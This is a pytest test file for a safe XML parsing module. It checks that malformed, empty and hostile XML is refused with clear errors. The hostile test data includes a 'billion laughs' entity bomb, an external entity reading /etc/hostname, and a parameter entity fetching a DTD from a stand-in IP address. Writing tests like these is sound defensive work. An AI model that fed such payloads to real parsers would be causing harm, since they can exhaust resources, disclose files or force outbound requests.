"""XML from strangers: what is refused, and how."""

from __future__ import annotations

import codecs

import pytest

from collabnlp.errors import CollabnlpError, DamagedFile, EmptyFile, UnsafeXml
from collabnlp.extraction.akoma_ntoso import read_akoma_ntoso
from collabnlp.extraction.clml import read_clml
from collabnlp.extraction.safe_xml import MAX_DEPTH, parse_xml, root_name

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><akomaNtoso>&c;</akomaNtoso>'
)
EXTERNAL = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'
PARAMETER = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><r/>'


@pytest.mark.parametrize(
    ("name", "data", "error"),
    [
        ("billion laughs", LAUGHS.encode(), UnsafeXml),
        ("laughs in UTF-16", LAUGHS.encode("utf-16"), UnsafeXml),
        ("laughs after a mark", codecs.BOM_UTF8 + LAUGHS.encode(), UnsafeXml),
        ("external entity", EXTERNAL.encode(), UnsafeXml),
        ("parameter entity", PARAMETER.encode(), UnsafeXml),
        ("bare document type", b"<!DOCTYPE r><r/>", UnsafeXml),
        ("far down", b"<!-- " + b"x" * 50_000 + b" --><!DOCTYPE r><r/>", UnsafeXml),
        ("too deep", b"<r>" + b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH + b"</r>", UnsafeXml),
        ("far too deep", b"<a>" * 5000 + b"</a>" * 5000, UnsafeXml),
        ("unknown entity", b"<r>&nbsp;</r>", DamagedFile),
        ("cut off", b"<r><a>text</a>", DamagedFile),
        ("not XML", b"a letter to the council", DamagedFile),
        ("bad bytes", b"<r>\xff\xfe\x00</r>", DamagedFile),
        ("unknown encoding", b'<?xml version="1.0" encoding="klingon"?><r/>', DamagedFile),
        ("blank", b" \n\t ", EmptyFile),
        ("only a mark", codecs.BOM_UTF8, EmptyFile),
        ("nothing", b"", EmptyFile),
        ("only a comment", b"<!-- nobody home -->", DamagedFile),
    ],
)  # fmt: skip
def test_refusals(name: str, data: bytes, error: type[CollabnlpError]) -> None:
    with pytest.raises(error) as caught:
        parse_xml(data, name="file.xml")
    assert "file.xml" in caught.value.message
    assert caught.value.advice


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_encodings(encoding: str) -> None:
    declared = "utf-8" if encoding == "utf-8-sig" else encoding
    text = f'<?xml version="1.0" encoding="{declared}"?><r>Café £5</r>'
    root = parse_xml(text.encode(encoding), name="file.xml")
    assert root.text == "Café £5"


def test_depth_up_to_the_limit_is_read() -> None:
    inner = b"<a>" * (MAX_DEPTH - 1) + b"</a>" * (MAX_DEPTH - 1)
    assert parse_xml(b"<r>" + inner + b"</r>", name="file.xml").tag == "r"


def test_root_name_reads_no_further_than_the_root() -> None:
    data = b'<x:root xmlns:x="urn:one"><broken'
    assert root_name(data, name="file.xml") == ("urn:one", "root")


@pytest.mark.parametrize("read", [read_akoma_ntoso, read_clml])
def test_readers_refuse_unsafe_files(read: object) -> None:
    with pytest.raises(UnsafeXml):
        read(LAUGHS.encode(), name="bill.xml")  # type: ignore[operator]
